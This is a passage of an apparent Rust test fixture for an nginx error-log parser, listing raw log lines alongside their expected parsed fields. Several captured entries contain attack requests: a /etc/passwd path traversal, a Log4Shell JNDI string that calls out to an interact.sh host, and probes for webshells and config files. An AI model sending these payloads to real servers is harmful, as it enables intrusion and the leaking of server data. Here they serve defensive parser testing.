        &[("level", "error"), ("pid", "205860"), ("tid", "205860"), ("cid", "180289"), ("naive", "1572477994"), ("message", "FastCGI sent in stderr: \"PHP message: PHP Warning:  Declaration of FEE_Field_Terms::wrap($content, $taxonomy, $before, $sep, $after) should be compatible with FEE_Field_Post::wrap($content, $post_id = 0) in /var/www/xxx/web/wp-content/plugins/front-end-editor/php/fields/post.php on line 0\nPHP message: PHP Warning:  Declaration of FEE_Field_Tags::wrap($content, $before, $sep, $after) should be compatible with FEE_Field_Terms::wrap($content, $taxonomy, $before, $sep, $after) in /var/www/xxx/web/wp-content/plugins/front-end-editor/php/fields/post.php on line 0\nPHP message: PHP Warning:  Declaration of FEE_Field_Category::wrap($content, $sep, $parents) should be compatible with FEE_Field_Terms::wrap($content, $taxonomy, $before, $sep, $after) in /var/www/xxx/web/wp-content/plugins/front-end-editor/php/fields/post.php on line 0"), ("connect_failure", "false"), ("ended", "false"), ("lines", "3")],
    ),
    // vectordotdev/vrl
    (
        b"2021/04/01 13:02:31 [error] 31#31: *1 open() \"/usr/share/nginx/html/not-found\" failed (2: No such file or directory), client: 172.17.0.1, server: localhost, request: \"POST /not-found HTTP/1.1\", host: \"localhost:8081\"",
        &[("level", "error"), ("pid", "31"), ("tid", "31"), ("cid", "1"), ("naive", "1617282151"), ("message", "open() \"/usr/share/nginx/html/not-found\" failed (2: No such file or directory)"), ("client", "172.17.0.1"), ("server", "localhost"), ("request", "POST /not-found HTTP/1.1"), ("host", "localhost:8081"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // vectordotdev/vrl
    (
        b"2021/06/03 09:30:50 [error] 32#32: *6 open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory), client: 10.244.0.0, server: localhost, request: \"GET /favicon.ico HTTP/1.1\", host: \"65.21.190.83:31256\", referrer: \"http://65.21.190.83:31256/\"",
        &[("level", "error"), ("pid", "32"), ("tid", "32"), ("cid", "6"), ("naive", "1622712650"), ("message", "open() \"/usr/share/nginx/html/favicon.ico\" failed (2: No such file or directory)"), ("client", "10.244.0.0"), ("server", "localhost"), ("request", "GET /favicon.ico HTTP/1.1"), ("host", "65.21.190.83:31256"), ("referrer", "http://65.21.190.83:31256/"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // vectordotdev/vrl
    (
        b"2021/06/17 19:25:59 [notice] 133309#133309: signal process started",
        &[("level", "notice"), ("pid", "133309"), ("tid", "133309"), ("naive", "1623957959"), ("message", "signal process started"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // vectordotdev/vrl
    (
        b"2023/09/08 13:50:28 [warn] 3#3: *531 an upstream response is buffered to a temporary file /var/lib/nginx/tmp/fastcgi/6/03/0000000036 while reading upstream, client: 10.224.1.1, server: , request: \"GET / HTTP/1.1\", upstream: \"fastcgi://127.0.0.1:9000\", host: \"\", referrer: \"\"",
        &[("level", "warn"), ("pid", "3"), ("tid", "3"), ("cid", "531"), ("naive", "1694181028"), ("message", "an upstream response is buffered to a temporary file /var/lib/nginx/tmp/fastcgi/6/03/0000000036 while reading upstream"), ("context", "reading upstream"), ("client", "10.224.1.1"), ("server", ""), ("request", "GET / HTTP/1.1"), ("upstream", "fastcgi://127.0.0.1:9000"), ("host", ""), ("referrer", ""), ("peer", "127.0.0.1:9000"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // crowdsecurity/hub
    (
        b"2023/09/23 09:58:51 [error] 298#298: *1093 FastCGI sent in stderr: \"PHP message: Failed login for user@example.com\" while reading response header from upstream, client: 1.2.3.4, server: _, request: \"POST /login HTTP/1.1\", upstream: \"fastcgi://127.0.0.1:9000\", host: \"bookstack.example.com\", referrer: \"https://bookstack.example.com/login\"",
        &[("level", "error"), ("pid", "298"), ("tid", "298"), ("cid", "1093"), ("naive", "1695463131"), ("message", "FastCGI sent in stderr: \"PHP message: Failed login for user@example.com\" while reading response header from upstream"), ("context", "reading response header from upstream"), ("client", "1.2.3.4"), ("server", "_"), ("request", "POST /login HTTP/1.1"), ("upstream", "fastcgi://127.0.0.1:9000"), ("host", "bookstack.example.com"), ("referrer", "https://bookstack.example.com/login"), ("peer", "127.0.0.1:9000"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // crowdsecurity/hub
    (
        b"2021/11/18 08:34:27 [info] 86596#86596: *1083 ModSecurity: Warning. Matched \"Operator `Rx' with parameter `(?i)(?:\\x5c|(?:%(?:c(?:0%(?:[2aq]f|5c|9v)|1%(?:[19p]c|8s|af))|2(?:5(?:c(?:0%25af|1%259c)|2f|5c)|%46|f)|(?:(?:f(?:8%8)?0%8|e)0%80%a|bg%q)f|%3(?:2(?:%(?:%6|4)6|F)|5%%63)|u(?:221[56]|002f|EFC8|F025)|1u|5 (400 characters omitted)' against variable `REQUEST_URI_RAW' (Value: `/?foo=../../../../../../../../etc/passwd' ) [file \"/usr/share/modsecurity-crs/rules/REQUEST-930-APPLICATION-ATTACK-LFI.conf\"] [line \"29\"] [id \"930100\"] [rev \"\"] [msg \"Path Traversal Attack (/../)\"] [data \"Matched Data: /../ found within REQUEST_URI_RAW: /?foo=../../../../../../../../etc/passwd\"] [severity \"2\"] [ver \"OWASP_CRS/3.2.0\"] [maturity \"0\"] [accuracy \"0\"] [tag \"application-multi\"] [tag \"language-multi\"] [tag \"platform-multi\"] [tag \"attack-lfi\"] [tag \"OWASP_CRS\"] [tag \"OWASP_CRS/WEB_ATTACK/DIR_TRAVERSAL\"] [hostname \"10.0.1.61\"] [uri \"/\"] [unique_id \"163722446755.059797\"] [ref \"o8,4o14,4o20,4o26,4v4,40\"], client: 82.64.145.141, server: foobar.com, request: \"GET /?foo=../../../../../../../../etc/passwd HTTP/1.1\", host: \"foobar.com\"",
        &[("level", "info"), ("pid", "86596"), ("tid", "86596"), ("cid", "1083"), ("naive", "1637224467"), ("message", "ModSecurity: Warning. Matched \"Operator `Rx' with parameter `(?i)(?:\\x5c|(?:%(?:c(?:0%(?:[2aq]f|5c|9v)|1%(?:[19p]c|8s|af))|2(?:5(?:c(?:0%25af|1%259c)|2f|5c)|%46|f)|(?:(?:f(?:8%8)?0%8|e)0%80%a|bg%q)f|%3(?:2(?:%(?:%6|4)6|F)|5%%63)|u(?:221[56]|002f|EFC8|F025)|1u|5 (400 characters omitted)' against variable `REQUEST_URI_RAW' (Value: `/?foo=../../../../../../../../etc/passwd' ) [file \"/usr/share/modsecurity-crs/rules/REQUEST-930-APPLICATION-ATTACK-LFI.conf\"] [line \"29\"] [id \"930100\"] [rev \"\"] [msg \"Path Traversal Attack (/../)\"] [data \"Matched Data: /../ found within REQUEST_URI_RAW: /?foo=../../../../../../../../etc/passwd\"] [severity \"2\"] [ver \"OWASP_CRS/3.2.0\"] [maturity \"0\"] [accuracy \"0\"] [tag \"application-multi\"] [tag \"language-multi\"] [tag \"platform-multi\"] [tag \"attack-lfi\"] [tag \"OWASP_CRS\"] [tag \"OWASP_CRS/WEB_ATTACK/DIR_TRAVERSAL\"] [hostname \"10.0.1.61\"] [uri \"/\"] [unique_id \"163722446755.059797\"] [ref \"o8,4o14,4o20,4o26,4v4,40\"]"), ("client", "82.64.145.141"), ("server", "foobar.com"), ("request", "GET /?foo=../../../../../../../../etc/passwd HTTP/1.1"), ("host", "foobar.com"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // crowdsecurity/hub
    (
        b"2021/12/26 12:36:51 [error] 972#972: *18722 [client 161.97.102.240] ModSecurity: Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5' against variable `TX:ANOMALY_SCORE' (Value: `370' ) [file \"/etc/nginx/modsec/rules/REQUEST-949-BLOCKING-EVALUATION.conf\"] [line \"80\"] [id \"949110\"] [rev \"\"] [msg \"Inbound Anomaly Score Exceeded (Total Score: 370)\"] [data \"\"] [severity \"2\"] [ver \"OWASP_CRS/3.x.x\"] [maturity \"0\"] [accuracy \"0\"] [tag \"application-multi\"] [tag \"language-multi\"] [tag \"platform-multi\"] [tag \"attack-generic\"] [hostname \"192.168.0.1\"] [uri \"/\"] [unique_id \"1640518611\"] [ref \"\"], client: 161.97.102.240, server: 42.42.42.42, request: \"GET /?x=${jndi:ldap://${hostName}.c72643ci97rd1ek9i7u0c8rf8iejf6fk6.interact.sh/a} HTTP/1.1\", host: \"hostname.domain:443\", referrer: \"${jndi:ldap://${hostName}.referer.c72643ci97rd1ek9i7u0c8rf8iejf6fms.interact.sh}\"",
        &[("level", "error"), ("pid", "972"), ("tid", "972"), ("cid", "18722"), ("naive", "1640522211"), ("message", "[client 161.97.102.240] ModSecurity: Access denied with code 403 (phase 2). Matched \"Operator `Ge' with parameter `5' against variable `TX:ANOMALY_SCORE' (Value: `370' ) [file \"/etc/nginx/modsec/rules/REQUEST-949-BLOCKING-EVALUATION.conf\"] [line \"80\"] [id \"949110\"] [rev \"\"] [msg \"Inbound Anomaly Score Exceeded (Total Score: 370)\"] [data \"\"] [severity \"2\"] [ver \"OWASP_CRS/3.x.x\"] [maturity \"0\"] [accuracy \"0\"] [tag \"application-multi\"] [tag \"language-multi\"] [tag \"platform-multi\"] [tag \"attack-generic\"] [hostname \"192.168.0.1\"] [uri \"/\"] [unique_id \"1640518611\"] [ref \"\"]"), ("client", "161.97.102.240"), ("server", "42.42.42.42"), ("request", "GET /?x=${jndi:ldap://${hostName}.c72643ci97rd1ek9i7u0c8rf8iejf6fk6.interact.sh/a} HTTP/1.1"), ("host", "hostname.domain:443"), ("referrer", "${jndi:ldap://${hostName}.referer.c72643ci97rd1ek9i7u0c8rf8iejf6fms.interact.sh}"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // crowdsecurity/hub
    (
        b"2025/10/27 19:47:46 [error] 273240#273240: *657 [client 1.1.1.1] ModSecurity: Access denied with code 403 (phase 4). Matched \"Operator `Contains' with parameter `evil.webshell' against variable `RESPONSE_BODY' (Value: `<title> evil.webshell </title>\\x0a<h1> evil.webshell </h1>\\x0a' ) [file \"/etc/modsecurity/test.conf\"] [line \"190\"] [id \"955003\"] [rev \"\"] [msg \"\"] [data \"\"] [severity \"0\"] [ver \"\"] [maturity \"0\"] [accuracy \"0\"] [hostname \"example.com\"] [uri \"/evil-webshell.txt\"] [unique_id \"176155486667.073983\"] [ref \"o8,13v619,56\"] while sending to client, client: 1.1.1.1, server: example.com, request: \"GET /evil-webshell.txt HTTP/2.0\", upstream: \"https://2.2.2.2:443/evil-webshell.txt\", host: \"example.com\"",
        &[("level", "error"), ("pid", "273240"), ("tid", "273240"), ("cid", "657"), ("naive", "1761594466"), ("message", "[client 1.1.1.1] ModSecurity: Access denied with code 403 (phase 4). Matched \"Operator `Contains' with parameter `evil.webshell' against variable `RESPONSE_BODY' (Value: `<title> evil.webshell </title>\\x0a<h1> evil.webshell </h1>\\x0a' ) [file \"/etc/modsecurity/test.conf\"] [line \"190\"] [id \"955003\"] [rev \"\"] [msg \"\"] [data \"\"] [severity \"0\"] [ver \"\"] [maturity \"0\"] [accuracy \"0\"] [hostname \"example.com\"] [uri \"/evil-webshell.txt\"] [unique_id \"176155486667.073983\"] [ref \"o8,13v619,56\"] while sending to client"), ("context", "sending to client"), ("client", "1.1.1.1"), ("server", "example.com"), ("request", "GET /evil-webshell.txt HTTP/2.0"), ("upstream", "https://2.2.2.2:443/evil-webshell.txt"), ("host", "example.com"), ("peer", "2.2.2.2:443"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // crowdsecurity/hub
    (
        b"2022/04/02 13:39:51 [info] 8#8: *6631 client login failed: \"AUTH not supported\" while in http auth state, client: 5.34.207.182, server: 0.0.0.0:25, login: \"linkinpark@example.com\"",
        &[("level", "info"), ("pid", "8"), ("tid", "8"), ("cid", "6631"), ("naive", "1648906791"), ("message", "client login failed: \"AUTH not supported\" while in http auth state"), ("context", "in http auth state"), ("client", "5.34.207.182"), ("server", "0.0.0.0:25"), ("login", "linkinpark@example.com"), ("subsystem", "mail"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // crowdsecurity/hub
    (
        b"2022/04/02 15:45:23 [info] 8#8: *15950 client 172.77.77.254:53044 connected to 0.0.0.0:25",
        &[("level", "info"), ("pid", "8"), ("tid", "8"), ("cid", "15950"), ("naive", "1648914323"), ("message", "client 172.77.77.254:53044 connected to 0.0.0.0:25"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // fail2ban/fail2ban
    (
        b"2015/01/21 10:56:10 [error] 2833#0: *16336 open() \"/var/www/site/cgi-bin/php4\" failed (2: No such file or directory), client: 5.7.9.2, server: localhost, request: \"GET /cgi-bin/php4 HTTP/1.1\", host: \"1.2.3.4\"",
        &[("level", "error"), ("pid", "2833"), ("tid", "0"), ("cid", "16336"), ("naive", "1421837770"), ("message", "open() \"/var/www/site/cgi-bin/php4\" failed (2: No such file or directory)"), ("client", "5.7.9.2"), ("server", "localhost"), ("request", "GET /cgi-bin/php4 HTTP/1.1"), ("host", "1.2.3.4"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // fail2ban/fail2ban
    (
        b"host nginx[2833]: 2015/01/21 10:56:10 [error] 2833#0: *16336 open() \"/var/www/site/cgi-bin/php4\" failed (2: No such file or directory), client: 5.7.9.2, server: localhost, request: \"GET /cgi-bin/php4 HTTP/1.1\", host: \"1.2.3.4\"",
        &[("reason", "no_timestamp")],
    ),
    // fail2ban/fail2ban
    (
        b"2018/09/14 19:03:05 [error] 2035#2035: *9134 access forbidden by rule, client: 12.34.56.78, server: www.example.net, request: \"GET /wp-content/themes/evolve/js/back-end/libraries/fileuploader/upload_handler.php HTTP/1.1\", host: \"www.example.net\", referrer: \"http://example.net/foo.php\"",
        &[("level", "error"), ("pid", "2035"), ("tid", "2035"), ("cid", "9134"), ("naive", "1536951785"), ("message", "access forbidden by rule"), ("client", "12.34.56.78"), ("server", "www.example.net"), ("request", "GET /wp-content/themes/evolve/js/back-end/libraries/fileuploader/upload_handler.php HTTP/1.1"), ("host", "www.example.net"), ("referrer", "http://example.net/foo.php"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // fail2ban/fail2ban
    (
        b"2018/09/13 15:42:05 [error] 2035#2035: *287 access forbidden by rule, client: 12.34.56.78, server: www.example.com, request: \"GET /wp-config.php~ HTTP/1.1\", host: \"www.example.com\"",
        &[("level", "error"), ("pid", "2035"), ("tid", "2035"), ("cid", "287"), ("naive", "1536853325"), ("message", "access forbidden by rule"), ("client", "12.34.56.78"), ("server", "www.example.com"), ("request", "GET /wp-config.php~ HTTP/1.1"), ("host", "www.example.com"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // fail2ban/fail2ban
    (
        b"2020/11/25 14:42:16 [crit] 76952#76952: *2454307 SSL_do_handshake() failed (SSL: error:1408F0C6:SSL routines:ssl3_get_record:packet length too long) while SSL handshaking, client: 142.93.180.14, server: 0.0.0.0:443",
        &[("level", "crit"), ("pid", "76952"), ("tid", "76952"), ("cid", "2454307"), ("naive", "1606315336"), ("message", "SSL_do_handshake() failed (SSL: error:1408F0C6:SSL routines:ssl3_get_record:packet length too long) while SSL handshaking"), ("context", "SSL handshaking"), ("client", "142.93.180.14"), ("server", "0.0.0.0:443"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // DataDog/integrations-core
    (
        b"2017/09/26 14:36:50 [error] 8409#8409: *317058 \"/usr/share/nginx/html/sql/sql-admin/index.html\" is not found (2: No such file or directory), client: 217.92.148.44, server: localhost, request: \"HEAD http://174.138.82.103:80/sql/sql-admin/ HTTP/1.1\", host: \"174.138.82.103\"",
        &[("level", "error"), ("pid", "8409"), ("tid", "8409"), ("cid", "317058"), ("naive", "1506436610"), ("message", "\"/usr/share/nginx/html/sql/sql-admin/index.html\" is not found (2: No such file or directory)"), ("client", "217.92.148.44"), ("server", "localhost"), ("request", "HEAD http://174.138.82.103:80/sql/sql-admin/ HTTP/1.1"), ("host", "174.138.82.103"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // DataDog/integrations-core
    (
        b"2017/09/26 14:36:50 [info] 14#14: *285 client 172.17.0.27 closed keepalive connection",
        &[("level", "info"), ("pid", "14"), ("tid", "14"), ("cid", "285"), ("naive", "1506436610"), ("message", "client 172.17.0.27 closed keepalive connection"), ("connect_failure", "false"), ("ended", "true"), ("lines", "1"), ("ended_hint", "true")],
    ),
    // gbenson/hive
    (
        b"2024/09/02 10:00:31 [notice] 1#1: hello world",
        &[("level", "notice"), ("pid", "1"), ("tid", "1"), ("naive", "1725271231"), ("message", "hello world"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // gbenson/hive
    (
        b"2024/09/02 10:00:31 [warn] 39#39: *606 a client request body is buffered to a temporary file /var/cache/nginx/client_temp/0000000001, client: 216.213.58.42, server: gbenson.net, request: \"POST /w/api.php HTTP/2.0\", host: \"gbenson.net\"",
        &[("level", "warn"), ("pid", "39"), ("tid", "39"), ("cid", "606"), ("naive", "1725271231"), ("message", "a client request body is buffered to a temporary file /var/cache/nginx/client_temp/0000000001"), ("client", "216.213.58.42"), ("server", "gbenson.net"), ("request", "POST /w/api.php HTTP/2.0"), ("host", "gbenson.net"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // gbenson/hive
    (
        b"2024/09/02 10:00:31 [error] 39#39: *606 \"/usr/share/nginx/html/hello/world\" is not found (2: No such file or directory), client: 64.225.101.100, server: gbenson.net, request: \"GET /hello/world HTTP/1.1\", host: \"216.213.58.42\", referrer: \"http://216.213.58.42:80/v2/\"",
        &[("level", "error"), ("pid", "39"), ("tid", "39"), ("cid", "606"), ("naive", "1725271231"), ("message", "\"/usr/share/nginx/html/hello/world\" is not found (2: No such file or directory)"), ("client", "64.225.101.100"), ("server", "gbenson.net"), ("request", "GET /hello/world HTTP/1.1"), ("host", "216.213.58.42"), ("referrer", "http://216.213.58.42:80/v2/"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // aasaam/nginx-error-log-parser
    (
        b"2020/01/02 03:04:05 [error] 7#8: *851624 open() \"/path/to/favicon.ico\" failed (2: No such file or directory), client: 127.0.0.1, server: _, request: \"GET /favicon.ico HTTP/1.1\", host: \"example.com\", referrer: \"https://abc.example.com/\"",
        &[("level", "error"), ("pid", "7"), ("tid", "8"), ("cid", "851624"), ("naive", "1577934245"), ("message", "open() \"/path/to/favicon.ico\" failed (2: No such file or directory)"), ("client", "127.0.0.1"), ("server", "_"), ("request", "GET /favicon.ico HTTP/1.1"), ("host", "example.com"), ("referrer", "https://abc.example.com/"), ("errno_text", "No such file or directory"), ("errno", "2"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // aasaam/nginx-error-log-parser
    (
        b"2020/01/02 03:04:05 [error] 7#8: *851624 FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream, client: 127.0.0.1, server: example.com, request: \"GET /login.php HTTP/1.1\", upstream: \"fastcgi://unix:/var/run/fpm.sock:\", host: \"example.com\"",
        &[("level", "error"), ("pid", "7"), ("tid", "8"), ("cid", "851624"), ("naive", "1577934245"), ("message", "FastCGI sent in stderr: \"Primary script unknown\" while reading response header from upstream"), ("context", "reading response header from upstream"), ("client", "127.0.0.1"), ("server", "example.com"), ("request", "GET /login.php HTTP/1.1"), ("upstream", "fastcgi://unix:/var/run/fpm.sock:"), ("host", "example.com"), ("peer", "unix:/var/run/fpm.sock"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // aasaam/nginx-error-log-parser
    (
        b"2020/01/02 03:04:05 [error] 7#8: *851624 FastCGI sent in stderr: \"PHP message: PHP Warning:  file_exists(): open_basedir restriction in effect. File(/home/public_html/www/wp-content/themes/dynamic.css) is not within the allowed path(s): (/home/public_html:/usr/share/pear:/usr/share/php:/tmp:/usr/local/lib/php) in /home/public_html/public_html/wp-content/themes/includes/functions.php on line 238\", client: 127.0.0.1, server: example.com, request: \"GET /login.php HTTP/1.1\", upstream: \"fastcgi://unix:/var/run/fpm.sock:\", host: \"example.com\"",
        &[("level", "error"), ("pid", "7"), ("tid", "8"), ("cid", "851624"), ("naive", "1577934245"), ("message", "FastCGI sent in stderr: \"PHP message: PHP Warning:  file_exists(): open_basedir restriction in effect. File(/home/public_html/www/wp-content/themes/dynamic.css) is not within the allowed path(s): (/home/public_html:/usr/share/pear:/usr/share/php:/tmp:/usr/local/lib/php) in /home/public_html/public_html/wp-content/themes/includes/functions.php on line 238\""), ("client", "127.0.0.1"), ("server", "example.com"), ("request", "GET /login.php HTTP/1.1"), ("upstream", "fastcgi://unix:/var/run/fpm.sock:"), ("host", "example.com"), ("peer", "unix:/var/run/fpm.sock"), ("kind", "other"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // aasaam/nginx-error-log-parser
    (
        b"2020/01/02 03:04:05 [error] 7#8: *851624 access forbidden by rule, client: 127.0.0.1, server: example.com, request: \"GET /.git/config HTTP/1.1\", host: \"example.com\"",
        &[("level", "error"), ("pid", "7"), ("tid", "8"), ("cid", "851624"), ("naive", "1577934245"), ("message", "access forbidden by rule"), ("client", "127.0.0.1"), ("server", "example.com"), ("request", "GET /.git/config HTTP/1.1"), ("host", "example.com"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // aasaam/nginx-error-log-parser
    (
        b"2020/01/02 03:04:05 [info] 7#8: *851624 this is exception might be happened",
        &[("level", "info"), ("pid", "7"), ("tid", "8"), ("cid", "851624"), ("naive", "1577934245"), ("message", "this is exception might be happened"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // codeactual/mainevent
    (
        b"2012/02/12 09:03:31 [error] 16939#0: *491 recv() failed (104: Connection reset by peer) while reading response header from upstream, client: 127.0.0.1, server: mainevent, request: \"GET /timeline HTTP/1.1\", upstream: \"fastcgi://unix:/usr/var/run/php-fpm.sock:\", host: \"mainevent\"",
        &[("level", "error"), ("pid", "16939"), ("tid", "0"), ("cid", "491"), ("naive", "1329037411"), ("message", "recv() failed (104: Connection reset by peer) while reading response header from upstream"), ("context", "reading response header from upstream"), ("client", "127.0.0.1"), ("server", "mainevent"), ("request", "GET /timeline HTTP/1.1"), ("upstream", "fastcgi://unix:/usr/var/run/php-fpm.sock:"), ("host", "mainevent"), ("peer", "unix:/usr/var/run/php-fpm.sock"), ("errno_text", "Connection reset by peer"), ("kind", "other"), ("errno", "104"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // codeactual/mainevent
    (
        b"2012/02/05 00:26:21 [error] 18242#0: *1 access forbidden by rule, client: 127.0.0.1, server: mainevent, request: \"GET /.htaccess HTTP/1.1\", host: \"mainevent\"",
        &[("level", "error"), ("pid", "18242"), ("tid", "0"), ("cid", "1"), ("naive", "1328401581"), ("message", "access forbidden by rule"), ("client", "127.0.0.1"), ("server", "mainevent"), ("request", "GET /.htaccess HTTP/1.1"), ("host", "mainevent"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // codeactual/mainevent
    (
        b"2012/02/05 00:25:54 [emerg] 18108#0: invalid number of arguments in \"server_tokens\" directive in /path/to/config:9",
        &[("level", "emerg"), ("pid", "18108"), ("tid", "0"), ("naive", "1328401554"), ("message", "invalid number of arguments in \"server_tokens\" directive in /path/to/config:9"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // mozilla-services/lua_sandbox_extensions
    (
        b"2014/03/01 11:29:39 [notice] 16842#0: using inherited sockets from \"6;\"",
        &[("level", "notice"), ("pid", "16842"), ("tid", "0"), ("naive", "1393673379"), ("message", "using inherited sockets from \"6;\""), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // mozilla-services/lua_sandbox_extensions
    (
        b"2014/03/01 11:29:39 [notice] 16842#0: *8878 using inherited sockets from \"6;\"",
        &[("level", "notice"), ("pid", "16842"), ("tid", "0"), ("cid", "8878"), ("naive", "1393673379"), ("message", "using inherited sockets from \"6;\""), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/23 12:34:56 [info] 1234#5678: *90 Some data",
        &[("level", "info"), ("pid", "1234"), ("tid", "5678"), ("cid", "90"), ("naive", "1548246896"), ("message", "Some data"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/23 12:34:56 [info] 1234#5678: Some data",
        &[("level", "info"), ("pid", "1234"), ("tid", "5678"), ("naive", "1548246896"), ("message", "Some data"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/23 12:34:56 [info] 1234#5678:   Some data \n",
        &[("level", "info"), ("pid", "1234"), ("tid", "5678"), ("naive", "1548246896"), ("message", "  Some data \n"), ("connect_failure", "false"), ("ended", "false"), ("lines", "2")],
    ),
    // madsmtm/nginx-error-log
    (
        b"invalid",
        &[("reason", "no_timestamp")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/23 112:34:56 [info] 1234#5678: Some data",
        &[("reason", "bad_prefix")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/23 12:34:56 [invalid] 1234#5678: Some data",
        &[("reason", "unknown_level")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/23 12:34:56 [debug] 1234#5678: *90 http proxy header:\n\"GET /example HTTP/1.1\nHost: example.com\nConnection: close\n\n\"",
        &[("level", "debug"), ("pid", "1234"), ("tid", "5678"), ("cid", "90"), ("naive", "1548246896"), ("message", "http proxy header:\n\"GET /example HTTP/1.1\nHost: example.com\nConnection: close\n\n\""), ("connect_failure", "false"), ("ended", "false"), ("lines", "6")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/10 10:02:43 [error] 6352#8908: *6775 upstream timed out (10060: A connection attempt failed because the connected party did not properly respond after a period of time, or established connection failed because connected host has failed to respond) while reading response header from upstream, client: 12.34.56.78, server: [redacted], request: \"GET /redacted/path6?before=2019-01-14&after=2018-12-30 HTTP/1.1\", upstream: \"http://[::1]:9000/redacted/path6?before=2019-01-14&after=2018-12-30\", host: \"[redacted]\", referrer: \"http://redacted/\"\x0d",
        &[("level", "error"), ("pid", "6352"), ("tid", "8908"), ("cid", "6775"), ("naive", "1547114563"), ("message", "upstream timed out (10060: A connection attempt failed because the connected party did not properly respond after a period of time, or established connection failed because connected host has failed to respond) while reading response header from upstream"), ("context", "reading response header from upstream"), ("client", "12.34.56.78"), ("server", "[redacted]"), ("request", "GET /redacted/path6?before=2019-01-14&after=2018-12-30 HTTP/1.1"), ("upstream", "http://[::1]:9000/redacted/path6?before=2019-01-14&after=2018-12-30"), ("host", "[redacted]"), ("referrer", "http://redacted/\"\u{d}"), ("peer", "[::1]:9000"), ("errno_text", "A connection attempt failed because the connected party did not properly respond after a period of time, or established connection failed because connected host has failed to respond"), ("kind", "upstream_timed_out"), ("errno", "10060"), ("subsystem", "http"), ("connect_failure", "false"), ("ended", "false"), ("lines", "1")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/10 10:02:44 [error] 6352#8908: *6776 no live upstreams while connecting to upstream, client: 12.34.56.78, server: [redacted], request: \"GET /redacted/path2 HTTP/1.1\", upstream: \"http://localhost/redacted/path2\", host: \"[redacted]\", referrer: \"http://redacted/\"\x0d",
        &[("level", "error"), ("pid", "6352"), ("tid", "8908"), ("cid", "6776"), ("naive", "1547114564"), ("message", "no live upstreams while connecting to upstream"), ("context", "connecting to upstream"), ("client", "12.34.56.78"), ("server", "[redacted]"), ("request", "GET /redacted/path2 HTTP/1.1"), ("upstream", "http://localhost/redacted/path2"), ("host", "[redacted]"), ("referrer", "http://redacted/\"\u{d}"), ("peer", "localhost"), ("kind", "no_live_upstreams"), ("subsystem", "http"), ("connect_failure", "true"), ("ended", "false"), ("lines", "1"), ("failure", "no_live_upstreams")],
    ),
    // madsmtm/nginx-error-log
    (
        b"2019/01/10 10:02:43 [warn] 6352#8908: *6775 upstream server temporarily disabled while reading response header from upstream, client: 12.34.56.78, server: [redacted], request: \"GET /redacted/path6?before=2019-01-14&after=2018-12-30 HTTP/1.1\", upstream: \"http://[::1]:9000/redacted/path6?before=2019-01-14&after=2018-12-30\", host: \"[redacted]\", referrer: \"http://redacted/\"\x0d",
